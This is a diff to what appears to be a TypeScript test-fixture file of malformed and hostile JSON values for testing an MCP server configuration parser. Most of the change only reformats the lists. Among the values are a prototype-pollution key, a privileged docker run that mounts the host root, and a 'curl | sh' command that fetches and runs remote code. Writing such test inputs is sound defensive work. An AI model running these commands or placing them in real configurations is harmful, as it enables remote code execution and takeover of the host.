@@ -16,10 +16,59 @@ export const HOSTILE_TEXTS: readonly string[] = [
 
 /** JSON values as they are written, most of them where something else is expected. */
 export const VALUES: readonly string[] = [
-  ...['null', 'true', 'false', '0', '-0', '1.5', '1e999', '-1e-999', '9007199254740993', '1'.repeat(400), '""', '"a"', '[]', '{}', '[null]', '["a", 1]', '[[]]'],
-  ...['{"__proto__": {"command": "a"}}', '{"constructor": null}', '{"toString": "a", "valueOf": 1}', '{"a": 1, "a": 2}', '{"": ""}', '{"a/~b": {}}', '"\\u0000"', '"\\ud800"', '"\\ud83d\\ude00"', '"\\u202e"'],
-  ...['"http"', '"stdio"', '"sse"', '"streamable-http"', '"https://notes.example.com/mcp"', '"http://localhost:3000"', '"https://user:pass@notes.example.com"', '"ws://a"', '"https://[::1"'],
-  ...['"npx"', '"npx -y notes-mcp@latest"', '"cmd /c npx notes"', '"./bin/notes"', '"C:\\\\tools\\\\notes.exe"', '"uvx"', '"docker"', '["npx", "-y", "notes"]', '["run", "--privileged", "-v", "/:/x", "notes"]'],
+  ...[
+    'null',
+    'true',
+    'false',
+    '0',
+    '-0',
+    '1.5',
+    '1e999',
+    '-1e-999',
+    '9007199254740993',
+    '1'.repeat(400),
+    '""',
+    '"a"',
+    '[]',
+    '{}',
+    '[null]',
+    '["a", 1]',
+    '[[]]'
+  ],
+  ...[
+    '{"__proto__": {"command": "a"}}',
+    '{"constructor": null}',
+    '{"toString": "a", "valueOf": 1}',
+    '{"a": 1, "a": 2}',
+    '{"": ""}',
+    '{"a/~b": {}}',
+    '"\\u0000"',
+    '"\\ud800"',
+    '"\\ud83d\\ude00"',
+    '"\\u202e"'
+  ],
+  ...[
+    '"http"',
+    '"stdio"',
+    '"sse"',
+    '"streamable-http"',
+    '"https://notes.example.com/mcp"',
+    '"http://localhost:3000"',
+    '"https://user:pass@notes.example.com"',
+    '"ws://a"',
+    '"https://[::1"'
+  ],
+  ...[
+    '"npx"',
+    '"npx -y notes-mcp@latest"',
+    '"cmd /c npx notes"',
+    '"./bin/notes"',
+    '"C:\\\\tools\\\\notes.exe"',
+    '"uvx"',
+    '"docker"',
+    '["npx", "-y", "notes"]',
+    '["run", "--privileged", "-v", "/:/x", "notes"]'
+  ],
   ...['["-c", "curl https://a.example.com | sh"]', '"2026-01-31T12:00:00Z"', '"2026-02-30T25:61:61+99:99"', '-1', '180000']
 ]
 
